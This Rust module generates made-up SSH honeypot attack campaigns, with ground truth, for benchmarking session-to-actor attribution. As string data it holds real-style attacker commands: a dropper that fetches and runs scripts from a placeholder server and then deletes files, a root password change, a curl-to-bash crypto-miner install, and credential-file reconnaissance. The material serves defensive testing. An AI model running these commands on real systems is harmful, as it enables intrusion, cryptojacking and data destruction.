//! Campaigns that are made up, with the truth beside them: who is behind each session. Used by the bench and by a test.
//!
//! The actors are of kinds that are hard to tell apart on purpose: botnets of hundreds of sources; pairs of actors with the same public
//! script but their own servers; several with the same public miner; two behind one address on the same day, half of them with the same client;
//! a key used from hundreds of sources; one who comes from another address each time; people with a client that everybody has. All
//! of it follows from one seed.

use std::net::{IpAddr, Ipv4Addr};

use turncoat_event::kinds::{
    AuthAttempt, ClientKex, ClientVersion, CommandExec, CommandInput, FileArtifact, FileWrite, NetConnect,
    ProcessExec, SessionClose, SessionOpen, TokenUsed,
};
use turncoat_event::{Bytes, Draft, Event, Kind, Origin, SessionId, Sha256, Time};

/// A second.
pub const S: i64 = 1_000_000_000;
/// When it begins: 2026-10-01.
const START: i64 = 1_790_812_800 * S;
/// How long it lasts: 30 days.
const SPAN: i64 = 30 * 86_400 * S;

/// SplitMix64: the same on every machine.
pub struct Random(u64);

impl Random {
    /// From a seed.
    pub fn new(seed: u64) -> Random {
        Random(seed)
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut x = self.0;
        x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        x ^ (x >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        &from[self.below(from.len() as u64) as usize]
    }

    fn text(&mut self, n: usize) -> String {
        let letters = b"abcdefghjkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
        (0..n).map(|_| *self.pick(letters) as char).collect()
    }

    fn address(&mut self) -> IpAddr {
        // Unicast, outside of what is reserved for hosts themselves.
        Ipv4Addr::new(
            20 + self.below(180) as u8,
            self.next() as u8,
            self.next() as u8,
            1 + self.below(254) as u8,
        )
        .into()
    }
}

/// A session with the truth.
pub struct Session {
    /// Its id.
    pub id: SessionId,
    /// Who is behind it; nobody where it is noise.
    pub actor: Option<usize>,
    /// What happened, by time.
    pub events: Vec<Draft>,
}

/// A client: identification and hassh.
type Client = (String, String);

/// What people and tools come with.
const CLIENTS: &[&str] = &[
    "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3",
    "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10",
    "SSH-2.0-PuTTY_Release_0.81",
    "SSH-2.0-libssh2_1.11.0",
    "SSH-2.0-Go",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-paramiko_3.4.0",
    "SSH-2.0-OpenSSH_7.4",
];

/// Passwords in everybody's list.
const COMMON: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "1234",
    "qwerty",
    "letmein",
    "P@ssw0rd",
    "raspberry",
    "ubuntu",
    "test",
    "admin123",
    "111111",
    "root123",
    "abc123",
    "toor",
    "changeme",
    "guest",
    "support",
];

/// What people type when they look around.
const LOOKING: &[&str] = &[
    "id",
    "w",
    "uname -a",
    "cat /etc/passwd",
    "ps aux",
    "ls -la /home",
    "netstat -antp",
    "history",
    "df -h",
    "crontab -l",
    "cat /proc/cpuinfo | grep name",
    "ip a",
    "last",
    "cat ~/.ssh/known_hosts",
    "ls -la /var/www",
    "find / -name '*.pem' 2>/dev/null",
    "cat .bash_history",
    "env",
    "sudo -l",
    "cat /etc/hosts",
    "free -m",
    "ls /opt /srv",
];

/// Scripts that circulate. `{H}` is the server, `{N}` a random name, `{P}` a password.
const PUBLIC: &[&str] = &[
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{H}/bins.sh; curl -O http://{H}/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp {H} -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh; rm -rf *",
    "uname -s -v -n -r -m; cat /proc/cpuinfo | grep name | wc -l; echo root:{P}|chpasswd|bash; cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'; free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'; ls -lh $(which ls); which ls; crontab -l; w; uname -m; cat /proc/cpuinfo | grep model | grep name | wc -l; top; uname; uname -a; whoami; lscpu | grep Model; df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "nvidia-smi -q | grep 'Product Name' | head -n 1; lspci | grep -i --color 'vga\\|3d\\|2d'; curl -s -L http://{H}/setup_c3pool_miner.sh | bash -s {N}; nohup ./xmrig -o {H}:3333 -u {N} -k --tls >/dev/null 2>&1 &",
    "/ip cloud print; ifconfig; uname -a; cat /proc/cpuinfo; ps | grep '[Mm]iner'; ps -ef | grep '[Mm]iner'; ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/*; locate D877F783D5D3EF8Cs; echo Hi | cat -n",
];

/// What an actor is like.
#[derive(Clone)]
struct Actor {
    kind: &'static str,
    client: Client,
    sources: Vec<IpAddr>,
    sessions: u64,
    /// User and password with which he gets in; a common one where there is none of his own.
    credential: Option<(String, String)>,
    wordlist: Vec<String>,
    key: Option<String>,
    /// Server that he fetches from or calls.
    server: Option<IpAddr>,
    artifact: Option<[u8; 32]>,
    script: Option<String>,
    token: Option<String>,
    persists: bool,
    /// Of all his sessions, how many show his server and file, in percent.
    shows: u64,
    /// When he is there.
    from: i64,
    until: i64,
}

fn client(r: &mut Random, own: bool) -> Client {
    let version = *r.pick(CLIENTS);
    let hassh = if own {
        r.text(12)
    } else {
        format!("hassh of {version}")
    };
    (version.to_owned(), hassh)
}

/// Makes about so many sessions, in order of time. Gives them and the kind of each actor.
pub fn campaigns(seed: u64, sessions: u64) -> (Vec<Session>, Vec<&'static str>) {
    let mut r = Random::new(seed);
    let mut actors: Vec<Actor> = Vec::new();
    let mut made = 0;
    let base = |r: &mut Random| {
        let from = START + r.below(20 * 86_400) as i64 * S;
        Actor {
            kind: "person",
            client: client(r, false),
            sources: vec![r.address()],
            sessions: 1,
            credential: None,
            wordlist: (0..6 + r.below(14))
                .map(|_| (*r.pick(COMMON)).to_owned())
                .collect(),
            key: None,
            server: None,
            artifact: None,
            script: None,
            token: None,
            persists: r.chance(60),
            shows: 80,
            from,
            until: (from + (2 + r.below(10)) as i64 * 86_400 * S).min(START + SPAN),
        }
    };
    let sha = |r: &mut Random| {
        let mut b = [0; 32];
        b.iter_mut().for_each(|b| *b = r.next() as u8);
        b
    };
    let miner = sha(&mut r);
    while made < sessions {
        let first = actors.len();
        match r.below(20) {
            // A botnet: hundreds of sources, one script, one server.
            0 => {
                let mut a = base(&mut r);
                a.kind = "botnet";
                a.sources = (0..30 + r.below(270)).map(|_| r.address()).collect();
                a.sessions = a.sources.len() as u64 + r.below(300);
                a.client = client(&mut r, true);
                a.server = Some(r.address());
                a.artifact = Some(sha(&mut r));
                let own: Vec<String> = (0..8)
                    .map(|_| format!("echo {} > /dev/null; {}", r.text(7), r.pick(LOOKING)))
                    .collect();
                a.script = Some(format!("{}; wget http://{{H}}/{{N}}", own.join("; ")));
                a.shows = 90;
                actors.push(a);
            }
            // Two with the same public script and tool, each with a server of his own.
            1 | 2 => {
                let script = (*r.pick(PUBLIC)).to_owned();
                let tool = client(&mut r, false);
                for _ in 0..2 {
                    let mut a = base(&mut r);
                    a.kind = "public tool";
                    a.client.clone_from(&tool);
                    a.sources = (0..1 + r.below(8)).map(|_| r.address()).collect();
                    a.sessions = 2 + r.below(25);
                    a.server = Some(r.address());
                    a.artifact = Some(if r.chance(50) { miner } else { sha(&mut r) });
                    a.script = Some(script.clone());
                    a.shows = 85;
                    actors.push(a);
                }
            }
            // A key used from many sources, and little else.
            3 => {
                let mut a = base(&mut r);
                a.kind = "one key";
                a.sources = (0..20 + r.below(180)).map(|_| r.address()).collect();
                a.sessions = a.sources.len() as u64;
                a.key = Some(format!("SHA256:{}", r.text(43)));
                a.script = None;
                actors.push(a);
            }
            // Two behind one address, on the same days.
            4 | 5 => {
                let source = r.address();
                let (from, tool) = (base(&mut r).from, client(&mut r, false));
                for _ in 0..2 {
                    let mut a = base(&mut r);
                    a.kind = "behind one address";
                    a.sources = vec![source];
                    a.from = from;
                    a.until = from + 86_400 * S;
                    a.sessions = 2 + r.below(6);
                    if r.chance(50) {
                        a.client.clone_from(&tool);
                    }
                    a.credential = Some(("root".into(), r.text(12)));
                    a.server = r.chance(60).then(|| r.address());
                    actors.push(a);
                }
            }
            // Another address each time; a credential or a server of his own ties his visits.
            6..=9 => {
                let mut a = base(&mut r);
                a.kind = "another address each time";
                a.sessions = 3 + r.below(12);
                a.sources = (0..a.sessions).map(|_| r.address()).collect();
                a.credential = Some(("admin".into(), r.text(14)));
                a.server = r.chance(50).then(|| r.address());
                a.artifact = r.chance(40).then(|| sha(&mut r));
                actors.push(a);
            }
            // Somebody with what was planted.
            10 => {
                let mut a = base(&mut r);
                a.kind = "planted thing";
                a.sessions = 2 + r.below(5);
                a.sources = (0..2).map(|_| r.address()).collect();
                a.credential = Some(("deploy".into(), r.text(16)));
                a.token = Some(format!("p-{}", r.text(8)));
                actors.push(a);
            }
            // A person: one or two addresses, a usual client, a common password.
            _ => {
                let mut a = base(&mut r);
                a.sessions = 1 + r.below(6);
                a.sources = (0..1 + r.below(2)).map(|_| r.address()).collect();
                a.until = a.from + 43_200 * S;
                a.server = r.chance(40).then(|| r.address());
                a.artifact = r
                    .chance(25)
                    .then(|| if r.chance(30) { miner } else { sha(&mut r) });
                a.script = r.chance(30).then(|| (*r.pick(PUBLIC)).to_owned());
                actors.push(a);
            }
        }
        made += actors.iter().skip(first).map(|a| a.sessions).sum::<u64>();
    }
    let mut all = Vec::new();
    for (n, a) in actors.iter().enumerate() {
        for k in 0..a.sessions {
            all.push(session(&mut r, a, n, k));
        }
    }
    for _ in 0..sessions / 4 {
        all.push(noise(&mut r));
    }
    all.sort_by_key(|s| (s.events[0].time, s.id));
    (all, actors.iter().map(|a| a.kind).collect())
}

fn open(r: &mut Random, source: IpAddr, at: i64, c: &Client) -> (SessionId, Origin, Vec<Draft>) {
    let mut tail = [0; 10];
    tail.iter_mut().for_each(|b| *b = r.next() as u8);
    let id = SessionId::new(Time(at), tail);
    let origin = Origin::session(id, (source, 40_000).into(), ([192, 0, 2, 250], 22).into(), "ssh");
    let events = vec![
        origin.at(Time(at), SessionOpen { via: None }),
        origin.at(
            Time(at + 1),
            ClientVersion {
                version: Bytes::from(c.0.as_str()),
            },
        ),
        origin.at(
            Time(at + 2),
            ClientKex {
                hassh: c.1.clone(),
                hassh_text: String::new(),
                kex: vec![],
                host_key: vec![],
                cipher: vec![],
                mac: vec![],
                compression: vec![],
                language: vec![],
            },
        ),
    ];
    (id, origin, events)
}

fn attempt(user: &str, secret: Option<&str>, key: Option<&str>, accepted: bool) -> Kind {
    AuthAttempt {
        method: if key.is_some() { "publickey" } else { "password" }.into(),
        user: Bytes::from(user),
        secret: secret.map(Bytes::from),
        secret_hash: None,
        key_type: None,
        fingerprint: key.map(str::to_owned),
        key: None,
        probe: None,
        accepted,
        policy: "list".into(),
    }
    .into()
}

fn noise(r: &mut Random) -> Session {
    let (source, c) = (r.address(), client(r, false));
    let at = START + r.below((SPAN / S) as u64) as i64 * S;
    let (id, o, mut events) = open(r, source, at, &c);
    for n in 0..r.below(6) as i64 {
        let secret = *r.pick(COMMON);
        events.push(o.at(Time(at + 10 + n), attempt("root", Some(secret), None, false)));
    }
    events.push(o.at(Time(at + S), close()));
    Session {
        id,
        actor: None,
        events,
    }
}

fn close() -> SessionClose {
    SessionClose {
        reason: "client".into(),
        bytes_in: 1,
        bytes_out: 1,
        duration_ms: 1,
    }
}

fn session(r: &mut Random, a: &Actor, n: usize, k: u64) -> Session {
    let source = match a.sources.get(k as usize) {
        Some(s) if a.sources.len() as u64 >= a.sessions => *s,
        _ => *r.pick(&a.sources),
    };
    let at = a.from + r.below(((a.until - a.from) / S).max(1) as u64) as i64 * S;
    let (id, o, mut events) = open(r, source, at, &a.client);
    let mut t = at + 10;
    let mut add = |events: &mut Vec<Draft>, kind: Kind| {
        t += 1_000_000;
        events.push(o.at(Time(t), kind));
    };
    match (&a.key, &a.credential) {
        (Some(key), _) => add(&mut events, attempt("root", None, Some(key), true)),
        (_, Some((user, password))) => add(&mut events, attempt(user, Some(password), None, true)),
        _ => {
            // The words of the list in order; the last one that is tried lets him in.
            let tries = 1 + r.below(a.wordlist.len() as u64) as usize;
            for (i, secret) in a.wordlist.iter().take(tries).enumerate() {
                add(&mut events, attempt("root", Some(secret), None, i + 1 == tries));
            }
        }
    }
    if let Some(token) = &a.token {
        add(
            &mut events,
            TokenUsed {
                token: token.clone(),
                kind: "credential".into(),
                planted: None,
                taken_by: None,
            }
            .into(),
        );
    }
    let shows = r.chance(a.shows);
    let server = a.server.filter(|_| shows);
    match &a.script {
        Some(script) => {
            let host = server.unwrap_or_else(|| r.address()).to_string();
            let line = script
                .replace("{H}", &host)
                .replace("{N}", &r.text(10))
                .replace("{P}", &r.text(12));
            add(
                &mut events,
                CommandExec {
                    command: Bytes(line.into_bytes()),
                }
                .into(),
            );
        }
        None => {
            for _ in 0..1 + r.below(12) {
                let line = *r.pick(LOOKING);
                let first = line.split(' ').next().unwrap_or("id");
                add(
                    &mut events,
                    CommandInput {
                        line: Bytes::from(line),
                        reader: None,
                        pid: None,
                    }
                    .into(),
                );
                add(&mut events, exec(&format!("/usr/bin/{first}"), &[line]));
            }
        }
    }
    if let Some(address) = server {
        add(
            &mut events,
            exec("/usr/bin/wget", &["wget", &format!("http://{address}/x")]),
        );
        add(
            &mut events,
            NetConnect {
                protocol: "tcp".into(),
                address,
                port: 80,
                name: None,
                answer: "timeout".into(),
                pid: None,
                program: None,
            }
            .into(),
        );
        if let Some(sha) = a.artifact {
            add(
                &mut events,
                FileArtifact {
                    path: Bytes::from("/tmp/x"),
                    sha256: Sha256(sha),
                    size: 9,
                    kept: 9,
                    how: "fetched".into(),
                    url: None,
                }
                .into(),
            );
        }
    }
    if a.persists && r.chance(70) {
        add(
            &mut events,
            FileWrite {
                path: Bytes::from("/root/.ssh/authorized_keys"),
                size: 9,
                pid: None,
                sha256: None,
            }
            .into(),
        );
    }
    add(&mut events, close().into());
    Session {
        id,
        actor: Some(n),
        events,
    }
}

fn exec(path: &str, argv: &[&str]) -> Kind {
    ProcessExec {
        pid: 1,
        ppid: 1,
        uid: 0,
        path: Bytes::from(path),
        argv: argv.iter().map(|a| Bytes::from(*a)).collect(),
        ancestry: vec![],
        cwd: None,
    }
    .into()
}

/// How well campaigns agree with the truth.
#[derive(Debug, Clone, Copy)]
pub struct Quality {
    /// Of the pairs of sessions that were joined, how many belong together.
    pub precision: f64,
    /// Of the pairs that belong together, how many were joined.
    pub recall: f64,
    /// The same two for the session in the middle of the field (B-cubed): large botnets do not decide them.
    pub b_precision: f64,
    /// See there.
    pub b_recall: f64,
}

/// Compares: for each session who is behind it and the campaign it is in.
pub fn quality(pairs: &[(usize, u64)]) -> Quality {
    use std::collections::HashMap;
    let (mut both, mut by_actor, mut by_campaign) = (HashMap::new(), HashMap::new(), HashMap::new());
    for (actor, campaign) in pairs {
        *both.entry((*actor, *campaign)).or_insert(0u64) += 1;
        *by_actor.entry(*actor).or_insert(0u64) += 1;
        *by_campaign.entry(*campaign).or_insert(0u64) += 1;
    }
    let choose = |n: &u64| (n * n.saturating_sub(1) / 2) as f64;
    let together: f64 = both.values().map(choose).sum();
    let (mut bp, mut br) = (0.0, 0.0);
    for ((actor, campaign), n) in &both {
        let n = *n as f64;
        bp += n * n / by_campaign[campaign] as f64;
        br += n * n / by_actor[actor] as f64;
    }
    Quality {
        precision: together / by_campaign.values().map(choose).sum::<f64>().max(1.0),
        recall: together / by_actor.values().map(choose).sum::<f64>().max(1.0),
        b_precision: bp / pairs.len().max(1) as f64,
        b_recall: br / pairs.len().max(1) as f64,
    }
}

/// Recall for each kind of actor alone.
pub fn by_kind(pairs: &[(usize, u64)], kinds: &[&'static str]) -> Vec<(&'static str, usize, f64)> {
    let mut all: std::collections::BTreeMap<&str, Vec<(usize, u64)>> = Default::default();
    for (actor, campaign) in pairs {
        all.entry(kinds[*actor]).or_default().push((*actor, *campaign));
    }
    all.into_iter()
        .map(|(kind, pairs)| (kind, pairs.len(), quality(&pairs).recall))
        .collect()
}

/// The events of sessions in the order in which a record has them, numbered.
pub fn events(sessions: Vec<Session>) -> Vec<Event> {
    let mut drafts: Vec<Draft> = sessions.into_iter().flat_map(|s| s.events).collect();
    drafts.sort_by_key(|d| d.time);
    drafts
        .into_iter()
        .zip(1u64..)
        .filter_map(|(d, n)| Some(Event::new(n, "made-up".parse().ok()?, d)))
        .collect()
}
